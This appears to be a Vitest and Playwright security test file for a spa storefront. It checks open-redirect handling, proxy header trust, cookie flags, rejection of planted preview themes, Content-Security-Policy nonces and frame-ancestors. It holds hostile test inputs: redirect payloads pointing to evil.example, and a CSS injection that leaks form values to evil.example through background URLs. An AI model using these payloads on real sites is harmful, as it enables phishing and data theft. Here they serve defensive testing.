// What an attacker tries against the storefront from outside: redirects to another site, and
// (below) the headers every answer carries.
import { createServer } from "node:http";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import type { Browser } from "playwright-core";
import { encodePreviewTheme } from "../domain/preview-theme";
import { at, getWithHost, isPolicyReport, launch, newPage, PHONE, watchPolicy } from "./browser";
import { freePort } from "./server-process";

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser?.close());

const post = (path: string, form: Record<string, string>) =>
  fetch(at(path), { method: "POST", redirect: "manual", body: new URLSearchParams(form), headers: { origin: new URL(at("/")).origin } });

describe("a redirect never leaves the site", () => {
  it("a language the business does not offer, with a second slash, stays on the business", async () => {
    const response = await getWithHost(at("/de//evil.example/phish"), `solo.localhost:${new URL(at("/")).port}`);
    expect(response.status).toBe(302);
    const location = String(response.headers.location);
    expect(location.startsWith("/")).toBe(true);
    expect(location.startsWith("//")).toBe(false);
    expect(new URL(location, "http://solo.localhost").host).toBe("solo.localhost");
  });

  it("a return address on another site is replaced by the profile", async () => {
    for (const target of ["//evil.example", "https://evil.example/", "/%2F%2Fevil.example"]) {
      const html = await (await fetch(at(`/auth/login?redirectTo=${encodeURIComponent(target)}`))).text();
      const kept = /name="redirectTo"[^>]*value="([^"]*)"|value="([^"]*)"[^>]*name="redirectTo"/.exec(html);
      const path = kept?.[1] ?? kept?.[2];
      expect(path, target).toBeDefined();
      expect(new URL(path!, at("/")).origin).toBe(new URL(at("/")).origin);
    }
  });

  it("a tab or a new line in the return address is refused with 400, not followed and not a 500", async () => {
    expect((await fetch(at("/auth/login?redirectTo=%2F%09%2Fevil.example"), { redirect: "manual" })).status).toBe(400);
    for (const redirectTo of ["/\t/evil.example", "/\n/evil.example", "/\\evil.example"]) {
      const response = await post("/auth/login", { redirectTo, email: "nobody@example.com", password: "wrong password" });
      expect(response.status, JSON.stringify(redirectTo)).toBe(400);
      expect(response.headers.get("location")).toBeNull();
    }
  });
});

describe("proxy headers without TRUST_PROXY", () => {
  it("X-Forwarded-Host does not choose the business: the Host's is rendered", async () => {
    const port = new URL(at("/")).port;
    const response = await getWithHost(at("/"), `localhost:${port}`, { "x-forwarded-host": `solo.localhost:${port}`, "x-forwarded-proto": "https" });
    expect(response.status).toBe(200);
    expect(response.body).toContain("Maison Lumière Spa");
    expect(response.body).not.toContain("L'Atelier de Clara");
    expect(response.headers["strict-transport-security"]).toBeUndefined();
  });

  it("cookies are Secure because PUBLIC_URL is https, over plain http too", async () => {
    const response = await fetch(at("/"), { redirect: "manual", headers: { cookie: `auth=${"x".repeat(43)}` } });
    const cleared = response.headers.getSetCookie().find((c) => c.startsWith("auth="));
    expect(cleared).toMatch(/; Secure$/);
  });
});

describe("a preview theme nobody else can plant", () => {
  it("an unsigned theme in a link renders the saved theme, loads no outside stylesheet and sets no cookie", async () => {
    const planted = encodePreviewTheme({ colors: { primary: "#aa0000" }, customCss: "input[name=email][value^=a]{background:url(https://evil.example/leak?e=a)}", fonts: { title: { name: "Evil", url: "https://evil.example/evil.css" } } });
    const response = await fetch(at(`/-ps--${planted}--pe-/legal`));
    expect(response.status).toBe(200);
    expect(response.headers.getSetCookie().some((c) => c.startsWith("previewtheme="))).toBe(false);
    const html = await response.text();
    expect(html).not.toContain("evil.example");

    const { context, page } = await newPage(browser, PHONE);
    await page.goto(at(`/-ps--${planted}--pe-/legal`));
    expect(new URL(page.url()).pathname).toBe("/legal");
    expect(await page.locator("h1").evaluate((el) => getComputedStyle(el).color)).toBe("rgb(26, 27, 27)");
    expect((await context.cookies()).find((c) => c.name === "previewtheme")).toBeUndefined();
    await context.close();
  });
});

/** The directives of a Content-Security-Policy header, by name. */
function directives(header: string | null): Record<string, string[]> {
  return Object.fromEntries((header ?? "").split(";").map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...values]) => [name!, values]));
}

describe("Content-Security-Policy and the headers of every answer", () => {
  it("a page carries a strict policy with a nonce of its own, worn by every inline script and style", async () => {
    const nonces: string[] = [];
    for (let i = 0; i < 2; i++) {
      const response = await fetch(at("/"));
      const policy = directives(response.headers.get("content-security-policy"));
      const nonce = policy["script-src"]?.find((v) => v.startsWith("'nonce-"))?.slice(7, -1);
      expect(nonce).toMatch(/^[A-Za-z0-9+/]{22,}={0,2}$/);
      nonces.push(nonce!);
      expect(policy["script-src"]).not.toContain("'unsafe-inline'");
      expect(policy["script-src"]).not.toContain("'unsafe-eval'");
      expect(policy["style-src"]).toEqual(["'self'", `'nonce-${nonce}'`]);
      expect(policy["object-src"]).toEqual(["'none'"]);
      expect(policy["base-uri"]).toEqual(["'none'"]);
      expect(policy["form-action"]).toEqual(["'self'"]);
      // The demo spa's back-office preview window, and nobody else.
      expect(policy["frame-ancestors"]).toEqual(["'self'", "http://localhost:4999"]);
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      expect(response.headers.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
      expect(response.headers.get("permissions-policy")).toContain("geolocation=(self)");
      const html = await response.text();
      const inline = [...html.matchAll(/<(script|style)\b([^>]*)>/g)];
      expect(inline.length).toBeGreaterThan(3);
      for (const [tag, , attributes] of inline) expect(attributes, tag).toContain(`nonce="${nonce}"`);
    }
    expect(nonces[0]).not.toBe(nonces[1]);
  });

  it("a script of the build and an API answer carry nosniff, the referrer and permissions policies, and a policy that runs nothing", async () => {
    const html = await (await fetch(at("/"))).text();
    const script = /<link rel="modulepreload"[^>]* href="(\/assets\/[^"]+\.js)"/.exec(html)?.[1];
    expect(script).toBeDefined();
    const api = await fetch(at("/api/shops"), { headers: { company: "demo-spa-lumiere" } });
    expect(api.status).toBe(200);
    for (const response of [await fetch(at(script!)), api]) {
      expect(response.status).toBe(200);
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      expect(response.headers.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
      expect(response.headers.get("permissions-policy")).toBe("camera=(), microphone=(), geolocation=(self), payment=(self), usb=()");
      const policy = directives(response.headers.get("content-security-policy"));
      expect(policy["default-src"]).toEqual(["'none'"]);
      expect(policy["frame-ancestors"]).toEqual(["'none'"]);
    }
  });

  it("a window of another origin cannot frame a page (frame-ancestors)", async () => {
    const port = await freePort();
    const outsider = createServer((_, res) => res.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><title>outsider</title><iframe id="f" src="${at("/profile")}"></iframe>`)).listen(port, "127.0.0.1");
    onTestFinished(() => void outsider.close());
    // Not newPage: the refusal reported here is what the test expects.
    const context = await browser.newContext();
    const page = await context.newPage();
    const reports: string[] = [];
    page.on("console", (message) => reports.push(message.text()));
    await page.goto(`http://127.0.0.1:${port}/`);
    await expect.poll(() => reports.join("\n")).toMatch(/frame-ancestors/);
    const frame = page.frames().find((f) => f !== page.mainFrame());
    expect(frame?.url() ?? "").not.toContain(new URL(at("/")).host);
    expect(await frame!.evaluate(() => document.title).catch(() => "")).not.toContain("Maison Lumière");
    await context.close();
  });

  it("a journey across the site, signed in, meets no refusal of the policy", async () => {
    const { context, page } = await newPage(browser, PHONE);
    const refused: string[] = [];
    page.on("console", (message) => {
      if (isPolicyReport(message.text())) refused.push(message.text());
    });
    await page.goto(at("/"));
    await page.getByTestId("categories").getByRole("link", { name: /Massages/ }).click();
    await page.waitForURL(/\/services\/massages$/);
    await page.getByTestId("services").getByTestId("service").first().getByRole("link").first().click();
    await page.getByTestId("duration").waitFor();
    await page.goto(at("/auth/login"));
    await page.fill("#f-email", "client@demo.example");
    await page.fill("#f-password", "demo-vitrine");
    await page.getByRole("button", { name: "Se connecter", exact: true }).click();
    await page.waitForURL(/\/profile/);
    await page.goto(at("/en/contact"));
    await page.locator("h1").waitFor();
    expect(refused).toEqual([]);
    await context.close();
  });

  it("the API reference renders under its own policy, which allows no eval (the renderer's validator only probes for it)", async () => {
    // Not newPage: the probe's refusal is expected here, and only it.
    const context = await browser.newContext();
    await watchPolicy(context);
    const page = await context.newPage();
    const refused: string[] = [];
    page.on("console", (message) => {
      if (isPolicyReport(message.text())) refused.push(message.text());
    });
    const response = await page.goto(at("/api/reference"));
    expect(directives(response!.headers()["content-security-policy"]!)["script-src"]).toEqual(["'self'"]);
    await page.getByText("Vitrine storefront API").first().waitFor();
    // Drawn by the renderer's script (the page itself holds only the script tag).
    await page.getByText("Download OpenAPI Document").first().waitFor();
    expect(refused.filter((text) => !/script-src refused eval/.test(text))).toEqual([]);
    await context.close();
  });
});
